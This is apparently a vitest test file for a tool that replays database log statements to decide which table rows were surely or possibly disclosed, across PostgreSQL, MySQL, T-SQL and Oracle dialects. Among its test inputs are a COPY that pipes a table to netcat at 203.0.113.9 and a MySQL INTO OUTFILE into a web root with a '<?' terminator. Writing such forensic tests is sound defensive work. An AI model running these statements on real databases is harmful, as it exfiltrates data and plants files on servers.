import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Engine, sql } from '../../src/engine/index.ts';
import { readCatalogue } from '../../src/exposure/catalogue.ts';
import { withDefinitions } from '../../src/exposure/replay/definitions.ts';
import { failed, replay } from '../../src/exposure/replay/replay.ts';
import { readAll, readStatements, type SourceDialect } from '../../src/exposure/replay/statements.ts';
import { loadParser } from '../../src/exposure/sql/index.ts';
import { loadSnapshot, snapshotEngine } from './snapshot.ts';

type Line = { text: string; conn?: string; own?: boolean; err?: string; params?: (string | null)[] };

describe('the statements of a database log', () => {
  let engine: Engine;
  beforeAll(async () => {
    await loadParser();
    engine = await snapshotEngine([]);
    await loadSnapshot(engine, [
      { name: 'people', columns: ['id', 'name', 'email'], rows: Array.from({ length: 20 }, (_, i) => [String(i), `n${i}`, `e${i}@x`]) },
    ]);
  }, 60_000);
  afterAll(() => engine.close());

  async function log(lines: readonly Line[]): Promise<void> {
    await engine.run(
      'test.event',
      sql`create or replace table event (event_id bigint, file_no integer, class integer, at_us bigint, start_lo_us bigint, start_hi_us bigint, end_lo_us bigint, end_hi_us bigint, conn_id varchar, sql_text varchar, sql_params varchar, rows_out bigint, err_code varchar, message varchar, stmt_kind varchar, db_user varchar, app_name varchar, src_ip varchar)`,
    );
    await engine.run('test.files', sql`create or replace table event_file as select 1 as file_no, 'pg-csvlog' as format`);
    await engine.run('test.actors', sql`delete from actor_event`);
    for (const [i, l] of lines.entries()) {
      await engine.run(
        'test.line',
        sql`insert into event values (${i}, 1, 2, ${i * 1000}, null, null, null, null, ${l.conn ?? 'c1'}, ${l.text}, ${l.params ? JSON.stringify(l.params) : null}, null, ${l.err ?? null}, null, null, 'app', null, null)`,
      );
      if (l.own !== false) await engine.run('test.actor', sql`insert into actor_event values ('a', ${i}, 'strict', 't')`);
    }
  }

  /** Ids surely shown and possibly shown by every statement of the log. */
  async function shown(lines: readonly Line[]): Promise<{ must: number[]; may: number[] }> {
    await log(lines);
    const catalogue = await withDefinitions(engine, await readCatalogue(engine));
    const must = new Set<number>();
    const may = new Set<number>();
    for (const s of (await readStatements(engine, { present: true, span: null, left: [] })).statements.filter(x => !x.failed)) {
      const r = await replay(engine, catalogue, { select: s.read.select, parameters: s.parameters ?? [], batch: null, foreign: s.read.foreign });
      if (failed(r)) throw new Error(`${s.text}: ${r.failure}`);
      for (const o of r.relation.occurrences)
        for (const row of await engine.rows<{ row: number; m: boolean }>(
          'test.rows',
          o.list ? sql`select unnest(${sql.id(o.ref)}) as row, m from replay_result` : sql`select ${sql.id(o.ref)} as row, m from replay_result`,
        )) {
          may.add(row.row);
          if (row.m && s.read.exact) must.add(row.row);
        }
    }
    const sorted = (set: Set<number>): number[] => [...set].sort((a, b) => a - b);
    return { must: sorted(must), may: sorted(may) };
  }
  const upTo = (from: number, to: number): number[] => Array.from({ length: to - from + 1 }, (_, i) => from + i);

  it('show of a cursor what was fetched: each FETCH the next rows, MOVE none', async () => {
    const declare = { text: 'declare c cursor for select id, name from people order by id' };
    expect(await shown([declare, { text: 'fetch 3 from c' }, { text: 'move 2 in c' }, { text: 'fetch forward 4 from c' }])).toEqual({
      must: [0, 1, 2, 5, 6, 7, 8],
      may: [0, 1, 2, 5, 6, 7, 8],
    });
    expect(await shown([declare, { text: 'fetch 2 from c' }, { text: 'fetch all from c' }])).toEqual({ must: upTo(0, 19), may: upTo(0, 19) });
    expect(await shown([declare, { text: 'fetch backward 2 from c' }])).toEqual({ must: [], may: upTo(0, 19) });
  });

  it('take a cursor of which no FETCH is logged as possibly read to its end, and keep connections apart', async () => {
    expect(await shown([{ text: 'declare c cursor for select id from people where id < 4' }])).toEqual({ must: [], may: upTo(0, 3) });
    expect(
      await shown([
        { text: 'declare c cursor for select id from people where id = 1', conn: 'x' },
        { text: 'declare c cursor for select id from people where id = 2', conn: 'y' },
        { text: 'fetch 1 from c', conn: 'y' },
      ]),
    ).toEqual({ must: [2], may: [1, 2] });
  });

  it('show a COPY to the client as read, and one to a file or a program as possible only', async () => {
    expect(await shown([{ text: 'copy (select name from people where id < 2) to stdout' }])).toEqual({ must: [0, 1], may: [0, 1] });
    expect(await shown([{ text: 'copy people (name) to stdout' }])).toEqual({ must: upTo(0, 19), may: upTo(0, 19) });
    expect(await shown([{ text: `copy people to '/tmp/x'` }])).toEqual({ must: [], may: upTo(0, 19) });
    expect(await shown([{ text: `copy people to program 'nc 203.0.113.9 80'` }])).toEqual({ must: [], may: upTo(0, 19) });
    expect(await shown([{ text: `copy people from '/tmp/x'` }])).toEqual({ must: [], may: [] });
  });

  it('follow views and stored copies to the rows they are made of', async () => {
    expect(
      await shown([{ text: 'create view adults (a, b) as select name, email from people where id > 16', own: false }, { text: 'select b from adults' }]),
    ).toEqual({
      must: [17, 18, 19],
      may: [17, 18, 19],
    });
    const copy = { text: 'create table stage as select name from people where id < 3' };
    expect(await shown([copy, { text: 'copy stage to stdout' }])).toEqual({ must: [0, 1, 2], may: [0, 1, 2] });
    expect(await shown([copy, { text: `insert into stage values ('x')` }, { text: 'select * from stage' }])).toEqual({ must: [], may: [0, 1, 2] });
    expect(await shown([{ text: 'select name into stage from people where id = 5' }])).toEqual({ must: [], may: [5] });
    expect(await shown([{ text: 'insert into notes select name from people where id = 6' }])).toEqual({ must: [], may: [6] });
    expect(await shown([{ text: 'insert into notes select name from people where id = 6', own: false }])).toEqual({ must: [], may: [] });
    expect(await shown([{ text: 'create view v as select * from v', own: false }, { text: 'select * from v' }])).toEqual({ must: [], may: [] });
  });

  it('read every statement of a text; of several only the last one surely reached the client', async () => {
    expect(await shown([{ text: 'select name from people where id = 1; select name from people where id = 2' }])).toEqual({ must: [2], may: [1, 2] });
  });

  it('run prepared statements with the values of EXECUTE', async () => {
    expect(
      await shown([{ text: 'prepare q as select name from people where id = $1' }, { text: 'execute q(7)' }, { text: 'execute q(8)', conn: 'other' }]),
    ).toEqual({
      must: [7],
      may: [7],
    });
  });

  it('disclose nothing when they failed', async () => {
    const text = 'select name from people where id = 1';
    expect(await shown([{ text }, { text, err: '42501' }])).toEqual({ must: [], may: [] });
  });

  it.each<[SourceDialect, string]>([
    ['mysql', `select name from people where id < 3 into outfile '/var/www/x' lines terminated by 0x3c3f`],
    ['mysql', `select name into dumpfile '/tmp/x' from people where id < 3`],
  ])('written to a file by %s are possible only', (dialect, text) => {
    const readings = readAll(text, dialect);
    expect(readings).not.toBe('unparseable');
    expect((readings as Exclude<typeof readings, string>).map(r => [r.kind, r.exact])).toEqual([['file', false]]);
  });
});

describe('the words of other databases', () => {
  let engine: Engine;
  beforeAll(async () => {
    await loadParser();
    engine = await snapshotEngine([
      {
        name: 'people',
        columns: ['id', 'name', 'n'],
        rows: [
          ['1', 'Smith', '5'],
          ['2', 'smith', '6'],
          ['3', 'Ｓｍｉｔｈ', '7'],
          ['4', 'Jones', '8'],
          ['5', 'はな', '9'],
          ['6', 'ハナ', '10'],
        ],
      },
    ]);
  }, 60_000);
  afterAll(() => engine.close());

  async function rows(dialect: SourceDialect, text: string): Promise<{ must: number[]; may: number[] }> {
    const readings = readAll(text, dialect);
    if (readings === 'unparseable' || readings.length === 0) throw new Error(`unread: ${text}`);
    const r = await replay(engine, await readCatalogue(engine), { select: readings[0]!.select, parameters: [], batch: null, foreign: readings[0]!.foreign });
    if (failed(r)) throw new Error(`${text}: ${r.failure}`);
    const found = await engine.rows<{ row: number; m: boolean }>(
      'test.rows',
      sql`select ${sql.id(r.relation.occurrences[0]!.ref)} + 1 as row, m from replay_result order by 1`,
    );
    return { must: found.filter(x => x.m).map(x => x.row), may: found.map(x => x.row) };
  }

  it.each<[SourceDialect, string, number[], number[]]>([
    // Equal by byte is equal under every collation; equal but for case may be.
    ['mysql', 'select `id` from `people` where `name` = "Smith"', [1], [1, 2]],
    ['tsql', `select [id] from [dbo].[people] where [name] = N'Smith'`, [1], [1, 2]],
    // Beyond ASCII nobody knows the collation.
    ['mysql', `select id from people where name like '%はな%'`, [5], [1, 2, 3, 4, 5, 6]],
    ['mysql', 'select id from people where id = 4', [4], [4]],
    ['mysql', 'select id from people order by id limit 1, 2', [2, 3], [2, 3]],
    ['tsql', 'select top 2 id from people order by id', [1, 2], [1, 2]],
    ['tsql', 'select id from people order by id offset 1 rows fetch next 2 rows only', [2, 3], [2, 3]],
    ['mysql', 'select id from people order by name limit 1', [], [1, 2, 3, 4, 5, 6]],
    ['oracle', 'select id from people where rownum <= 2', [], [1, 2, 3, 4, 5, 6]],
    ['oracle', 'select id from people order by id fetch first 2 rows only', [1, 2], [1, 2]],
    ['mysql', 'select id from people where not (name = "Smith")', [], [1, 2, 3, 4, 5, 6]],
    ['mysql', 'select /*!40001 SQL_NO_CACHE */ id from `people` where n > 8 # and so on', [5, 6], [5, 6]],
    ['mysql', `select ifnull(cast(name as nchar), 0x20) from people where id = 2`, [2], [2]],
  ])('%s: %s', async (dialect, text, must, may) => {
    expect(await rows(dialect, text)).toEqual({ must, may });
  });
});
